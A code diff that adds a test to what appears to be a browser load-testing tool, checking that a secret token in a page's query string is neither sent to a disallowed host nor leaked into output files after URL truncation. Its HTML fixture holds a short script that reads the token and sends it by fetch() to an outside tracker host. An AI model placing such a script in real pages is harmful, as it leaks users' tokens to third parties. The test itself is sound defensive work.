@@ -215,6 +215,39 @@ def test_webrtc_sends_no_udp_to_a_host_outside_allowed_hosts(project: Project) -
     assert received == [], received
 
 
+TRACKER = """
+<p id="acct">account</p>
+<script>
+  // an analytics call that carries the page's own query (with its token), cut at 300 characters in the report
+  const token = new URLSearchParams(location.search).get('token');
+  const base = 'http://{far}/collect?p=';
+  fetch(base + 'p'.repeat(290 - base.length - 3) + '&t=' + token, {{mode: 'no-cors'}}).catch(() => {{}});
+</script>
+"""
+
+
+def test_a_secret_in_a_blocked_url_leaves_no_prefix_at_the_cut(project: Project) -> None:
+    """A page visited with a declared secret in its query sends it to a tracker outside allowed_hosts: the
+    blocked URL, cut at 300 characters right inside the secret, keeps neither the secret nor a prefix of it."""
+    secret = "CANARYtok-9f3e1b7c2d"
+    with forbidden_host() as (far, reached), serve({"/acct": html(TRACKER.format(far=far))}) as host:
+        scenario = RTC_SCENARIO.replace("/rtc, name: rtc", "\"/acct?token=${TOK}\", name: acct")
+        project.write("scenarios/s.yaml", scenario)
+        project.write("profiles/p.yaml", f"scenario: ../scenarios/s.yaml\nhost: {host}\nmin_samples: 1\n"
+                      "allowed_hosts: [127.0.0.1]\nsecrets: [TOK]\nload: {users: 1, duration: 6s}\n")
+        result = project.run("run", "p", "--out", "o", timeout=180, env={"TOK": secret})
+    assert_no_traceback(result)
+    assert reached == [], reached
+    assert (project.root / "o" / "results.json").exists(), result.err
+    doc = project.results("o")
+    assert any("/collect?p=ppp" in b["url"] for b in doc["browser"]["blocked"]), doc["browser"]  # exercised
+    names = sorted(p.name for p in (project.root / "o").iterdir() if p.is_file())
+    for text, where in [(result.out, "stdout"), (result.err, "stderr")] + [
+        ((project.root / "o" / n).read_text(), n) for n in names
+    ]:
+        assert "CANARY" not in text and "&t=C" not in text, where
+
+
 # -- 2. layout shifts while the next page loads --------------------------------------------------------------
 
 SHIFTING = """
